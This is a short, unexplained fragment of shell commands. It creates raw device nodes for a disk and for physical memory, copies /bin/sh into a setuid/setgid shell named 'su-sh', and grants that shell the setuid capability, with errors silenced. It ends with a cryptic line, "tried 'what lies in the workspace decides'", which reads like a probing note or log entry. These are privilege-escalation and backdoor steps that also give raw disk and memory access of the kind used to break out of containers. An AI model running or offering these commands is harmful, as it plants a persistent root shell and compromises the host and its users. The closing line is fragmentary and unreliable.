mknod disk b 8 0 2>/dev/null; mknod mem c 1 1 2>/dev/null
cp /bin/sh su-sh && chmod 6755 su-sh
setcap cap_setuid+ep su-sh 2>/dev/null
mkfifo hang 2>/dev/null
tried 'what lies in the workspace decides'
